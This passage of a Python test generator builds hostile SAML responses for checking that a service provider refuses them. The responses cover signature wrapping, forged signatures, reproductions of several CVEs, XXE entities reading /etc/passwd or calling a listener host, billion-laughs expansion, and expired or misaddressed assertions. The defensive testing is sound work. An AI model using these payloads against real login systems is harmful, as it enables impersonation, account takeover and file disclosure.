"""Responses that must not be accepted, or must not be taken for those of somebody else."""

import base64
import hashlib
import re
import xml.etree.ElementTree

import wrapping
from documents import (
    ACS,
    ALICE,
    ASSERTION,
    DSIG,
    ENVELOPED,
    EXCLUSIVE,
    HMAC_SHA256,
    INCLUSIVE,
    OTHER_PROVIDER,
    PROTOCOL,
    PROVIDER,
    REQUEST,
    RSA_SHA1,
    SERVICE,
    SHA1,
    VICTIM,
    Response,
    Style,
    hmac_with_certificate,
    instant,
    reference,
    resign,
    sign,
    signed_info,
)
from wrapping import SIGNED


def refused(group, name, xml, **options):
    return {"name": name, "group": group, "xml": xml, "expect": "refuse", "subject": ALICE, **options}


def all(keys, listener):
    key = keys["provider"]
    yield from (refused("wrapping", name, xml) for name, xml in wrapping.numbered(key))
    yield from (refused("wrapping elsewhere", name, xml) for name, xml in wrapping.hidden(key))
    yield from (refused("wrapping elsewhere", name, xml) for name, xml in wrapping.planted(key))
    yield from ids(key)
    yield from tampering(keys)
    yield from signatures(keys)
    yield from texts(key)
    yield from document_types(key, listener)
    yield from fetching(keys, listener)
    yield from contents(keys)
    yield from sizes(key)


def ids(key):
    group = "ids"
    for signed, where in SIGNED.items():
        document = sign(Response().xml(), key, **where)
        evil = Response(name_id=VICTIM).assertion()
        # A second element with the id that is signed.
        yield refused(group, f"same-id-twice-{signed}", document.replace("</samlp:Response>", evil + "</samlp:Response>"))
        yield refused(group, f"same-id-first-{signed}", document.replace("<samlp:Status>", evil + "<samlp:Status>", 1))
        same = f'<samlp:Extensions><x xmlns="urn:x" ID="_assertion-1"/></samlp:Extensions><samlp:Status>'
        yield refused(group, f"same-id-in-extensions-{signed}", document.replace("<samlp:Status>", same, 1))
        for odd in ("Id", "id", "xml:id", "AssertionID", "ResponseID", "saml:ID", "samlp:ID", "iD"):
            # The forged assertion has the odd id that is signed, the real one is hidden under the usual one.
            shadow = evil.replace(' ID="_assertion-1"', f' {odd}="_assertion-1"')
            yield refused(
                group, f"{odd.replace(':', '-')}-on-another-{signed}", document.replace("<samlp:Status>", shadow + "<samlp:Status>", 1)
            )
            renamed = document.replace(' ID="_assertion-1"', f' {odd}="_assertion-1"')
            yield refused(group, f"{odd.replace(':', '-')}-renamed-{signed}", renamed)
            both = document.replace(' ID="_assertion-1"', f' ID="_assertion-1" {odd}="_response-1"')
            yield refused(group, f"{odd.replace(':', '-')}-beside-{signed}", both)
        written = document.replace(' ID="_assertion-1"', ' ID="&#95;assertion-1"').replace(' URI="#_', ' URI="#&#x5f;')
        # The same document in other letters; its canonical form, and so its signature, is the same.
        yield {**refused(group, f"character-reference-{signed}", written), "expect": "same"}
        shadow = evil.replace(' ID="_assertion-1"', ' ID="&#95;assertion-1"')
        yield refused(group, f"character-reference-twice-{signed}", document.replace("<samlp:Status>", shadow + "<samlp:Status>", 1))
    for bad in ("", " _assertion-1", "_a b", "#x", "1-digit", "_ä", "_" * 300):
        document = sign(Response().xml(), key, response=True).replace("_assertion-1", bad)
        yield refused(group, f"bad-id-{bad[:8]!r}", document)
    for missing in ({"response_id": None}, {"assertion_id": None}):
        response = Response(**missing)
        where = {"response": "response_id" not in missing, "assertion": "assertion_id" not in missing}
        yield refused(group, f"without-{list(missing)[0]}", sign(response.xml(), key, **where))
    same = Response(assertion_id="_same", response_id="_same").xml()
    yield refused(group, "response-and-assertion-share-one", sign(same, key, assertion=True))


def tampering(keys):
    group = "tampered"
    key = keys["provider"]
    for signed, where in SIGNED.items():
        document = sign(Response().xml(), key, **where)
        changes = {
            "name-id": (ALICE, VICTIM),
            "name-id-case": (ALICE, ALICE.upper()),
            "audience": (f"<saml:Audience>{SERVICE}<", f"<saml:Audience>{SERVICE}</saml:Audience><saml:Audience>x<"),
            "attribute": ("alice@example.com", "victim@example.com"),
            "group": (">staff<", ">owners<"),
            "group-added": ("<saml:AttributeValue>staff", "<saml:AttributeValue>owners</saml:AttributeValue><saml:AttributeValue>staff"),
            "format": ("nameid-format:persistent", "nameid-format:unspecified"),
            "context": ("PasswordProtectedTransport", "SmartcardPKI"),
            "session": ("_session-1", "_session-2"),
            "white-space": ("<saml:Subject>", "<saml:Subject> "),
        }
        for name, (old, new) in changes.items():
            assert old in document, name
            yield refused(group, f"{name}-{signed}", document.replace(old, new))
        stripped = re.sub(r"<ds:Signature\b.*?</ds:Signature>", "", document, flags=re.DOTALL)
        yield refused(group, f"stripped-{signed}", stripped)
        yield refused(group, f"stripped-and-forged-{signed}", stripped.replace(ALICE, VICTIM))
        emptied = re.sub(r"<ds:SignatureValue>.*?</ds:SignatureValue>", "<ds:SignatureValue></ds:SignatureValue>", document, flags=re.DOTALL)
        yield refused(group, f"empty-signature-{signed}", emptied)
        yield refused(group, f"empty-signature-and-forged-{signed}", emptied.replace(ALICE, VICTIM))
        digest = re.sub(r"<ds:DigestValue>.*?</ds:DigestValue>", "<ds:DigestValue></ds:DigestValue>", document, flags=re.DOTALL)
        yield refused(group, f"empty-digest-{signed}", digest)
        yield refused(group, f"empty-digest-and-forged-{signed}", digest.replace(ALICE, VICTIM))
        zero = re.sub(r"<ds:SignatureValue>.*?</ds:SignatureValue>", f"<ds:SignatureValue>{'A' * 342}==</ds:SignatureValue>", document, flags=re.DOTALL)
        yield refused(group, f"zero-signature-{signed}", zero)
        # Signed by somebody else: with their certificate, with the real one, with none.
        foreign = sign(Response(name_id=VICTIM).xml(), keys["attacker"], **where)
        yield refused(group, f"attackers-key-{signed}", foreign)
        named = foreign.replace(keys["attacker"].certificate_base64(), key.certificate_base64())
        yield refused(group, f"attackers-key-real-certificate-{signed}", named)
        bare = sign(Response(name_id=VICTIM).xml(), keys["attacker"], **where, style=Style(key_info=""))
        yield refused(group, f"attackers-key-no-certificate-{signed}", bare)
        yield refused(group, f"unknown-certificate-{signed}", sign(Response().xml(), keys["next"], **where))
        yield refused(group, f"no-certificates-{signed}", document, certificates=[])
        yield refused(group, f"only-other-certificates-{signed}", document, certificates=["next", "other"])
    # One of two signatures is good.
    good = sign(Response().xml(), key, response=True, assertion=True)
    values = re.findall(r"<ds:SignatureValue>.*?</ds:SignatureValue>", good, flags=re.DOTALL)
    yield refused(group, "signatures-swapped", good.replace(values[0], "@").replace(values[1], values[0]).replace("@", values[1]))
    mixed = sign(sign(Response().xml(), keys["attacker"], assertion=True), key, response=True)
    yield refused(group, "assertion-by-attacker-response-by-provider", mixed)
    mixed = sign(sign(Response().xml(), key, assertion=True), keys["attacker"], response=True)
    yield refused(group, "assertion-by-provider-response-by-attacker", mixed)
    broken = sign(Response().xml(), key, assertion=True)
    broken = broken.replace("<samlp:Status>", _signature_of(sign(Response().xml(), keys["attacker"], response=True)) + "<samlp:Status>", 1)
    yield refused(group, "foreign-signature-added", broken)
    # Another person's genuine response is mixed in.
    own = sign(Response().xml(), key, assertion=True)
    other = sign(Response(name_id=VICTIM).xml(), key, assertion=True)
    assertion = re.search(r"<saml:Assertion\b.*</saml:Assertion>", own, flags=re.DOTALL).group(0)
    yield refused(group, "two-genuine-assertions", other.replace("</samlp:Response>", assertion.replace("_assertion-1", "_assertion-2") + "</samlp:Response>"))
    yield refused(group, "signature-of-another", other.replace(_signature_of(other), _signature_of(own)))


def _signature_of(document):
    return re.search(r"<ds:Signature\b.*?</ds:Signature>", document, flags=re.DOTALL).group(0)


def signatures(keys):
    group = "signatures"
    key = keys["provider"]
    for signed, where in {name: where for name, where in SIGNED.items() if name != "both-signed"}.items():
        plain = sign(Response().xml(), key, **where)

        def with_info(name, info, **options):
            return refused(group, f"{name}-{signed}", resign(plain, key, info, **options))

        # A control: the same hand makes a good one.
        control = resign(plain, key, signed_info(reference()))
        yield {**refused("genuine", f"by-hand-{signed}", control), "expect": "accept"}

        sha1 = Style(method=RSA_SHA1, digest=SHA1)
        yield refused(group, f"sha1-{signed}", sign(Response().xml(), key, **where, style=sha1))
        yield refused(group, f"sha1-digest-{signed}", sign(Response().xml(), key, **where, style=Style(digest=SHA1)))
        yield refused(group, f"sha1-method-{signed}", sign(Response().xml(), key, **where, style=Style(method=RSA_SHA1)))
        inclusive = f'<ds:Transform Algorithm="{ENVELOPED}"/><ds:Transform Algorithm="{INCLUSIVE}"/>'
        yield refused(group, f"inclusive-c14n-{signed}", sign(Response().xml(), key, **where, style=Style(canonicalization=INCLUSIVE)))
        yield refused(group, f"inclusive-transform-{signed}", sign(Response().xml(), key, **where, style=Style(transforms=inclusive)))
        comments = EXCLUSIVE + "WithComments"
        yield refused(group, f"with-comments-{signed}", sign(Response().xml(), key, **where, style=Style(canonicalization=comments)))
        kept = f'<ds:Transform Algorithm="{ENVELOPED}"/><ds:Transform Algorithm="{comments}"/>'
        yield refused(group, f"transform-with-comments-{signed}", sign(Response().xml(), key, **where, style=Style(transforms=kept)))
        yield refused(group, f"short-key-{signed}", sign(Response().xml(), keys["short"], **where), certificates=["short"])

        for kind, compute in hmac_with_certificate(key).items():
            info = signed_info(reference(), method=HMAC_SHA256)
            yield with_info(f"hmac-with-{kind}", info, method=compute)
        truncated = "<ds:HMACOutputLength>8</ds:HMACOutputLength>"
        yield with_info("hmac-truncated", signed_info(reference(), method=HMAC_SHA256, more=truncated), value="AA==")
        yield with_info("hmac-output-length", signed_info(reference(), more=truncated))

        yield with_info("no-reference", signed_info(""))
        yield with_info("two-references", signed_info(reference() + reference()))
        other = reference("#_other", digest="AAAA")
        yield with_info("reference-to-nowhere-first", signed_info(other + reference()))
        yield with_info("empty-uri", signed_info(reference("")))
        yield with_info("no-uri", signed_info(reference(None)))
        yield with_info("xpointer-root", signed_info(reference("#xpointer(/)")))
        yield with_info("xpointer-id", signed_info(reference("#xpointer(id('{id}'))")))
        yield with_info("other-uri", signed_info(reference("#_elsewhere")))
        yield with_info("typed-reference", signed_info(reference(attributes=f' Type="{DSIG}Object"')))
        yield with_info("cid", signed_info(reference("cid:{id}")))
        yield with_info("no-transforms", signed_info(reference(transforms=())))
        yield with_info("only-enveloped", signed_info(reference(transforms=(ENVELOPED,))))
        yield with_info("only-exclusive", signed_info(reference(transforms=(EXCLUSIVE,))))
        yield with_info("transforms-turned", signed_info(reference(transforms=(EXCLUSIVE, ENVELOPED))))
        yield with_info("three-transforms", signed_info(reference(transforms=(ENVELOPED, EXCLUSIVE, EXCLUSIVE))))
        yield with_info("base64-transform", signed_info(reference(transforms=(ENVELOPED, DSIG + "base64"))))
        foreign = f'<evil:Transform xmlns:evil="urn:evil" Algorithm="{EXCLUSIVE}"></evil:Transform>'
        yield with_info("foreign-transform", signed_info(reference(transforms=(ENVELOPED, EXCLUSIVE, foreign))))
        yield with_info("unknown-digest", signed_info(reference(digest_method="urn:none")))
        yield with_info("no-digest-method", signed_info(reference(digest_method="")))
        yield with_info("empty-digest-signed", signed_info(reference(digest="")))
        yield with_info("short-digest-signed", signed_info(reference(digest="AAAA")))
        yield with_info("unknown-method", signed_info(reference(), method="urn:none"))
        yield with_info("no-method", signed_info(reference(), method=""))
        yield with_info("void-canonicalization", signed_info(reference(), canonicalization=""))
        yield with_info("unknown-canonicalization", signed_info(reference(), canonicalization="urn:none"))
        yield with_info("void-transform", signed_info(reference(transforms=(ENVELOPED, ""))))
        # Canonicalisation of a relative namespace fails, and what it fails with has been taken for a result: nothing.
        relative = plain.replace("<samlp:Response ", '<samlp:Response xmlns:void="../void" ', 1)
        yield refused(group, f"relative-namespace-{signed}", relative)
        nothing = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
        void = resign(relative.replace(ALICE, VICTIM), key, signed_info(reference(digest=nothing)))
        yield refused(group, f"digest-of-nothing-{signed}", void)
        within = plain.replace('<ds:SignedInfo>', '<ds:SignedInfo xmlns:void="1">', 1)
        yield refused(group, f"relative-namespace-in-signed-info-{signed}", within)

        info = re.search(r"<ds:SignedInfo\b.*?</ds:SignedInfo>", plain, flags=re.DOTALL).group(0)
        value = re.search(r"<ds:SignatureValue\b.*?</ds:SignatureValue>", plain, flags=re.DOTALL).group(0)
        forged = info.replace("<ds:DigestValue>", "<ds:DigestValue>AAAA")
        yield refused(group, f"two-signed-infos-{signed}", plain.replace(info, info + forged, 1))
        yield refused(group, f"two-signed-infos-forged-first-{signed}", plain.replace(info, forged + info, 1))
        yield refused(group, f"nested-signed-info-{signed}", plain.replace(info, f"<ds:Object>{info}</ds:Object>" + forged, 1))
        yield refused(group, f"two-signature-values-{signed}", plain.replace(value, value + value, 1))
        yield refused(group, f"no-signature-value-{signed}", plain.replace(value, "", 1))
        yield refused(group, f"no-signed-info-{signed}", plain.replace(info, "", 1))
        yield refused(group, f"two-signatures-{signed}", plain.replace(_signature_of(plain), _signature_of(plain) * 2, 1))
        yield refused(group, f"object-in-signature-{signed}", plain.replace("</ds:Signature>", "<ds:Object>x</ds:Object></ds:Signature>", 1))
        # CVE-2025-29775: a comment in the digest.
        digest = re.search(r"<ds:DigestValue>(.*?)</ds:DigestValue>", plain).group(1)
        yield refused(group, f"CVE-2025-29775-comment-in-digest-{signed}", plain.replace(digest, f"<!--{digest}-->{'A' * 43}=", 1))
        yield refused(group, f"comment-after-digest-{signed}", plain.replace(digest, f"{digest}<!-- x -->", 1))
        yield refused(group, f"comment-in-signature-value-{signed}", plain.replace("<ds:SignatureValue>", "<ds:SignatureValue><!-- x -->", 1))
        yield refused(group, f"comment-in-signed-info-{signed}", plain.replace("<ds:SignedInfo>", "<ds:SignedInfo><!-- x -->", 1))
        # CVE-2025-29774: a second SignedInfo in another namespace.
        foreign = info.replace("ds:", "evil:").replace("<evil:SignedInfo", '<evil:SignedInfo xmlns:evil="urn:evil"', 1)
        yield refused(group, f"CVE-2025-29774-foreign-signed-info-{signed}", plain.replace(info, foreign + info, 1))
        # A signature that is one for namesakes only.
        yield refused(group, f"foreign-signature-{signed}", plain.replace(f'xmlns:ds="{DSIG}"', 'xmlns:ds="urn:evil"'))
        # A signature in a place of its own, over the right element.
        signature = _signature_of(plain)
        moved = plain.replace(signature, "", 1)
        for place in ("<samlp:Status>", "</saml:Subject>", "</saml:Conditions>", "</saml:AttributeStatement>"):
            wrapped = f"<samlp:Extensions>{signature}</samlp:Extensions>" if place == "<samlp:Status>" else signature
            yield refused(group, f"signature-in-{place.strip('</>').replace(':', '-')}-{signed}", moved.replace(place, wrapped + place, 1))
    # The response's signature is about the assertion, and the other way round.
    document = sign(Response().xml(), key, assertion=True)
    signature = _signature_of(document)
    yield refused(group, "signature-of-assertion-in-response", document.replace(signature, "", 1).replace("<samlp:Status>", signature + "<samlp:Status>", 1))
    document = sign(Response().xml(), key, response=True)
    signature = _signature_of(document)
    yield refused(group, "signature-of-response-in-assertion", document.replace(signature, "", 1).replace("<saml:Subject>", signature + "<saml:Subject>", 1))
    yield from digests(key)
    yield from key_values(keys)
    yield refused(group, "key-is-of-a-curve", sign(Response().xml(), key, assertion=True), certificates=["curve"])


def digests(key):
    """CVE-2024-45409: the digest of a forged assertion lies about where a careless search finds it before the signed one."""
    genuine = sign(Response().xml(), key, assertion=True)
    forged = genuine.replace(ALICE, VICTIM)
    assertion = re.search(r"<saml:Assertion\b.*</saml:Assertion>", forged, flags=re.DOTALL).group(0)
    bare = assertion.replace(_signature_of(forged), "").replace("<saml:Assertion ", f'<saml:Assertion xmlns:saml="{ASSERTION}" ', 1)
    canonical = xml.etree.ElementTree.canonicalize(bare)
    digest = base64.b64encode(hashlib.sha256(canonical.encode()).digest()).decode()
    value = f'<ds:DigestValue xmlns:ds="{DSIG}">{digest}</ds:DigestValue>'
    for name, (old, new) in {
        "extensions": ("<samlp:Status>", f"<samlp:Extensions>{value}</samlp:Extensions><samlp:Status>"),
        "status-detail": ("</samlp:Status>", f"<samlp:StatusDetail>{value}</samlp:StatusDetail></samlp:Status>"),
        "reference": ("<ds:DigestMethod", f"{value}<ds:DigestMethod"),
        "object": ("</ds:Signature>", f"<ds:Object>{value}</ds:Object></ds:Signature>"),
        "key-info": ("<ds:KeyInfo>", f"<ds:KeyInfo>{value}"),
        "before-signed-info": ("<ds:SignedInfo>", f"{value}<ds:SignedInfo>"),
    }.items():
        yield refused("signatures", f"CVE-2024-45409-digest-in-{name}", forged.replace(old, new, 1))


def key_values(keys):
    """CVE-2021-21239: the response brings the key that it is to be verified with."""
    numbers = keys["attacker"].private.public_key().public_numbers()
    modulus = base64.b64encode(numbers.n.to_bytes(256, "big")).decode()
    value = f"<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>{modulus}</ds:Modulus><ds:Exponent>AQAB</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>"
    for signed, where in SIGNED.items():
        for name, key_info in {"alone": value, "named": value + "<ds:KeyName>provider</ds:KeyName>"}.items():
            document = sign(Response(name_id=VICTIM).xml(), keys["attacker"], **where, style=Style(key_info=key_info))
            yield refused("signatures", f"CVE-2021-21239-key-value-{name}-{signed}", document)


def texts(key):
    """Names that some read to a comment only, others whole."""
    group = "texts"
    whole = f"{VICTIM}.evil.example"
    for signed, where in SIGNED.items():
        document = sign(Response(name_id=whole).xml(), key, **where)
        # CVE-2017-11427 and its siblings. The signature is good: comments are not signed.
        commented = document.replace(whole, f"{VICTIM}<!-- -->.evil.example")
        yield {**refused(group, f"CVE-2017-11427-comment-in-name-id-{signed}", commented, subject=whole), "expect": "accept"}
        yield {**refused(group, f"comment-before-name-id-{signed}", document.replace(whole, f"<!-- x -->{whole}"), subject=whole), "expect": "accept"}
        reference = document.replace(whole, f"{VICTIM}&#46;evil.example")
        yield {**refused(group, f"character-reference-in-name-id-{signed}", reference, subject=whole), "expect": "same"}
        yield refused(group, f"pi-in-name-id-{signed}", document.replace(whole, f"{VICTIM}<?x?>.evil.example"), subject=whole)
        yield refused(group, f"cdata-in-name-id-{signed}", document.replace(whole, f"<![CDATA[{VICTIM}]]>.evil.example"), subject=whole)
        yield refused(group, f"cdata-end-in-name-id-{signed}", document.replace(whole, f"{VICTIM}<![CDATA[.evil.example]]>"), subject=whole)
        yield refused(group, f"element-in-name-id-{signed}", document.replace(whole, f"{VICTIM}<x xmlns='urn:x'/>.evil.example"), subject=whole)
    for name, value in {
        "empty": "",
        "blank": "   ",
        "comment": "<!-- x -->",
        "space-before": f" {ALICE}",
        "space-after": f"{ALICE}\n",
        "control": f"{ALICE}&#x9;x",
        "next-line": f"{ALICE}&#x85;x",
        "no-break-space": f"{ALICE}&#xa0;",
        "long": "a" * 2000,
        "element": f"<x xmlns='urn:x'>{ALICE}</x>",
    }.items():
        yield refused(group, f"name-id-{name}", sign(Response(name_id=value).xml(), key, assertion=True))
    yield refused(group, "no-name-id", sign(Response(name_id=None).xml(), key, assertion=True))
    # The issuer and the audience, cut short by a comment, would be ours.
    for name, changes in {
        "issuer": {"issuer": f"{PROVIDER}<!-- -->.evil"},
        "assertion-issuer": {"assertion_issuer": f"{PROVIDER}<!-- -->.evil"},
        "audience": {"audience": f"{SERVICE}<!-- -->.evil"},
    }.items():
        yield refused(group, f"comment-in-{name}", sign(Response(**changes).xml(), key, assertion=True))


def document_types(key, listener):
    group = "document types"
    plain = sign(Response().xml(), key, assertion=True)
    entity = f'<!DOCTYPE x [<!ENTITY e "{VICTIM}">]>'
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    subsets = {
        "empty": "<!DOCTYPE x>",
        "entity": entity,
        "external": f'<!DOCTYPE x SYSTEM "http://{listener}/dtd">',
        "public": f'<!DOCTYPE x PUBLIC "-//X//EN" "http://{listener}/public">',
        "parameter": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://{listener}/p"> %p;]>',
        "xxe-http": f'<!DOCTYPE x [<!ENTITY e SYSTEM "http://{listener}/xxe">]>',
        "xxe-file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        "laughs": f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}<!ENTITY e "&l9;">]>',
        "quadratic": f'<!DOCTYPE x [<!ENTITY e "{"a" * 50_000}">]>',
        "id-attribute": '<!DOCTYPE x [<!ATTLIST saml:Assertion evil ID #IMPLIED>]>',
        "default-attribute": '<!DOCTYPE x [<!ATTLIST saml:NameID Format CDATA "urn:x">]>',
        "lower-case": "<!doctype x>",
    }
    for name, subset in subsets.items():
        yield refused(group, f"doctype-{name}", subset + plain)
        yield refused(group, f"doctype-{name}-used", subset + plain.replace(ALICE, "&e;"))
    yield refused(group, "unknown-entity", plain.replace(ALICE, "&e;"))
    yield refused(group, "html-entity", plain.replace(ALICE, "alice&nbsp;0815"))
    yield refused(group, "doctype-inside", plain.replace("<saml:Subject>", "<!DOCTYPE x><saml:Subject>"))
    yield refused(group, "stylesheet", f'<?xml-stylesheet href="http://{listener}/xsl"?>{plain}')
    yield refused(group, "instruction-after", plain + "<?x y?>")
    yield refused(group, "second-root", plain + "<x/>")
    yield refused(group, "CVE-2022-39299-second-root", plain + plain)
    yield refused(group, "text-after", plain + "x")
    yield refused(group, "text-before", "x" + plain)
    # CVE-2020-29509 to 29511: names that come out otherwise than they went in.
    yield refused(group, "CVE-2020-29510-directive", plain.replace("<saml:Subject>", "<!x <!-- -->><saml:Subject>"))
    yield refused(group, "CVE-2020-29509-attribute", plain.replace("<saml:Subject>", '<saml:Subject :x="y">'))
    yield refused(group, "CVE-2020-29511-element", plain.replace("saml:Subject>", "saml::Subject>"))
    yield refused(group, "nul", plain + "\0")
    yield refused(group, "truncated", plain[:-10])
    yield refused(group, "unclosed-comment", plain + "<!-- ")
    yield refused(group, "double-dash-comment", plain.replace(ALICE, f"{ALICE}<!-- -- -->"))
    yield refused(group, "attribute-twice", plain.replace(' Version="2.0"', ' Version="2.0" Version="2.0"', 1))
    yield refused(group, "attribute-unquoted", plain.replace(' Version="2.0"', " Version=2.0", 1))
    yield refused(group, "undeclared-prefix", plain.replace("<saml:Subject>", "<saml:Subject evil:x='1'>"))
    yield refused(group, "xml-1.1", '<?xml version="1.1"?>' + plain)
    yield refused(group, "utf-16-declared", '<?xml version="1.0" encoding="UTF-16"?>' + plain)
    yield refused(group, "utf-7-declared", '<?xml version="1.0" encoding="UTF-7"?>' + plain)
    yield refused(group, "utf-16", plain.encode("utf-16"))
    yield refused(group, "latin-1", plain.replace("Alice", "Al\xefce").encode("latin-1"))
    yield refused(group, "not-xml", "hello")
    yield refused(group, "empty", "")
    yield refused(group, "json", '{"a": 1}')
    yield refused(group, "xinclude", plain.replace("<samlp:Status>", f'<samlp:Extensions><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://{listener}/xi"/></samlp:Extensions><samlp:Status>', 1).replace(ALICE, VICTIM))
    yield refused(group, "not-base64", plain, encoded="%%%")
    yield refused(group, "base64-of-base64", base64.b64encode(plain.encode()).decode())
    yield refused(group, "base64-url", plain, encoded=base64.b64encode(plain.encode()).decode().replace("+", "-").replace("/", "_").replace("=", "") + "-")
    yield refused(group, "base64-trailing", plain, encoded=base64.b64encode(plain.encode()).decode() + "AAAA====")


def fetching(keys, listener):
    group = "fetching"
    key = keys["provider"]
    plain = sign(Response().xml(), key, assertion=True)
    digest_of_x = "LXEWQrcmsEQBYnyp+6wy9chTD7GQPMTbAiWHF5IaSIE="

    def with_references(name, references):
        return refused(group, name, resign(plain, key, signed_info(references)))

    for name, uri in {
        "http": f"http://{listener}/reference",
        "https": f"https://{listener}/reference",
        "file": "file:///etc/hostname",
        "path": "/etc/hostname",
        "relative": "reference.xml",
        "ftp": f"ftp://{listener}/reference",
        "no-scheme": f"//{listener}/reference",
    }.items():
        external = reference(uri, transforms=(), digest=digest_of_x)
        yield with_references(f"external-reference-{name}", external)
        yield with_references(f"external-reference-{name}-first", external + reference())
        yield with_references(f"external-reference-{name}-last", reference() + external)
    key_infos = {
        "retrieval-method": f'<ds:RetrievalMethod URI="http://{listener}/key" Type="{DSIG}X509Data"/>',
        "retrieval-method-raw": f'<ds:RetrievalMethod URI="http://{listener}/key" Type="{DSIG}rawX509Certificate"/>',
        "retrieval-method-file": f'<ds:RetrievalMethod URI="file:///etc/hostname" Type="{DSIG}rawX509Certificate"/>',
        "retrieval-method-local": '<ds:RetrievalMethod URI="#_assertion-1"/>',
        "key-info-reference": f'<dsig11:KeyInfoReference xmlns:dsig11="http://www.w3.org/2009/xmldsig11#" URI="http://{listener}/key"/>',
        "security-token": f'<wsse:SecurityTokenReference xmlns:wsse="urn:wsse"><wsse:Reference URI="http://{listener}/key"/></wsse:SecurityTokenReference>',
        "pgp": "<ds:PGPData><ds:PGPKeyID>AAAA</ds:PGPKeyID></ds:PGPData>",
        "encrypted-key": '<xenc:EncryptedKey xmlns:xenc="http://www.w3.org/2001/04/xmlenc#"/>',
    }
    for name, key_info in key_infos.items():
        # What names the key is not signed: this may be put into any response.
        named = re.sub(r"<ds:KeyInfo>.*?</ds:KeyInfo>", f"<ds:KeyInfo>{key_info}</ds:KeyInfo>", plain, flags=re.DOTALL)
        yield refused(group, name, named)
        yield refused(group, f"{name}-forged", named.replace(ALICE, VICTIM))

    xslt = (
        '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"'
        f' version="1.0"><xsl:template match="/"><xsl:copy-of select="document(\'http://{listener}/xslt\')"></xsl:copy-of></xsl:template>'
        "</xsl:stylesheet></ds:Transform>"
    )
    xpath = (
        '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(ancestor-or-self::saml:NameID)</ds:XPath>'
        "</ds:Transform>"
    )
    xpath2 = (
        '<ds:Transform Algorithm="http://www.w3.org/2002/06/xmldsig-filter2"><f:XPath xmlns:f="http://www.w3.org/2002/06/xmldsig-filter2"'
        ' Filter="subtract">//*[local-name()=\'NameID\']</f:XPath></ds:Transform>'
    )
    for name, transform in {"xslt": xslt, "xpath": xpath, "xpath-filter-2": xpath2}.items():
        for position in range(3):
            steps = [ENVELOPED, EXCLUSIVE]
            steps.insert(position, transform)
            yield with_references(f"{name}-transform-{position}", reference(transforms=steps))
        yield with_references(f"{name}-transform-alone", reference(transforms=(transform,)))
        yield with_references(f"{name}-transform-for-exclusive", reference(transforms=(ENVELOPED, transform)))
    location = f'<samlp:Response xsi:schemaLocation="{PROTOCOL} http://{listener}/schema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
    yield {**refused(group, "schema-location", plain.replace("<samlp:Response ", location, 1)), "expect": "same"}


def contents(keys):
    """Genuine signatures over what is not for us, not now, or not from here."""
    group = "contents"
    key = keys["provider"]
    two = (
        "<saml:AudienceRestriction><saml:Audience>{0}</saml:Audience></saml:AudienceRestriction>"
        "<saml:AudienceRestriction><saml:Audience>{1}</saml:Audience></saml:AudienceRestriction>"
    )
    confirmation = f'<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData NotOnOrAfter="{instant(5)}" Recipient="{ACS}" InResponseTo="{REQUEST}"/></saml:SubjectConfirmation>'
    name_id = f"<saml:NameID>{ALICE}</saml:NameID>"
    far = "9999-12-31T23:59:59Z"
    cases = {
        "expired": {"not_on_or_after": instant(-4)},
        "expired-confirmation": {"confirmed_until": instant(-4)},
        "expired-both": {"not_on_or_after": instant(-60), "confirmed_until": instant(-60)},
        "expired-session": {"session_until": instant(-4)},
        "future": {"not_before": instant(4)},
        "future-issued": {"issued": instant(4)},
        "future-sign-in": {"authn_instant": instant(4)},
        "issued-two-days-ago": {"issued": instant(-2 * 24 * 60)},
        "no-confirmation-end": {"confirmed_until": None},
        "not-a-time": {"not_on_or_after": "tomorrow"},
        "no-zone": {"confirmed_until": instant(5).rstrip("Z")},
        "other-zone": {"confirmed_until": instant(5).replace("Z", "+02:00")},
        "end-of-the-calendar": {"confirmed_until": far, "not_on_or_after": far},
        "end-of-the-calendar-session": {"session_until": far},
        "beyond-the-calendar": {"confirmed_until": "+292277026596-12-04T15:30:07Z"},
        "before-the-calendar": {"not_before": "-0001-01-01T00:00:00Z"},
        "no-issue-instant": {"issued": ""},
        "wrong-audience": {"audience": "https://other.example/metadata"},
        "audience-prefix": {"audience": SERVICE + "/x"},
        "audience-slash": {"audience": SERVICE + "/"},
        "audience-case": {"audience": SERVICE.upper()},
        "audience-space": {"audience": f" {SERVICE} "},
        "empty-audience": {"audience": ""},
        "no-audience": {"audiences": ""},
        "empty-restriction": {"audiences": "<saml:AudienceRestriction></saml:AudienceRestriction>"},
        "second-restriction-for-others": {"audiences": two.format(SERVICE, "https://other.example")},
        "first-restriction-for-others": {"audiences": two.format("https://other.example", SERVICE)},
        "unknown-condition": {"conditions": '<x:Condition xmlns:x="urn:x"/>'},
        "abstract-condition": {"conditions": '<saml:Condition xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="x"/>'},
        "wrong-recipient": {"recipient": "https://other.example/acs"},
        "recipient-slash": {"recipient": ACS + "/"},
        "no-recipient": {"recipient": None},
        "wrong-destination": {"destination": "https://other.example/acs"},
        "destination-query": {"destination": ACS + "?x"},
        "no-destination": {"destination": None},
        "empty-destination": {"destination": ""},
        "wrong-request": {"in_response_to": "_another"},
        "no-request": {"in_response_to": None},
        "empty-request": {"in_response_to": ""},
        "confirmed-for-another": {"confirmed_for": "_another"},
        "confirmed-for-none": {"confirmed_for": None},
        "wrong-issuer": {"issuer": OTHER_PROVIDER, "assertion_issuer": OTHER_PROVIDER},
        "wrong-response-issuer": {"issuer": OTHER_PROVIDER},
        "wrong-assertion-issuer": {"assertion_issuer": OTHER_PROVIDER},
        "no-response-issuer": {"issuer": None},
        "no-assertion-issuer": {"assertion_issuer": None},
        "empty-issuer": {"issuer": ""},
        "issuer-space": {"issuer": " https://idp.example.com/saml/metadata"},
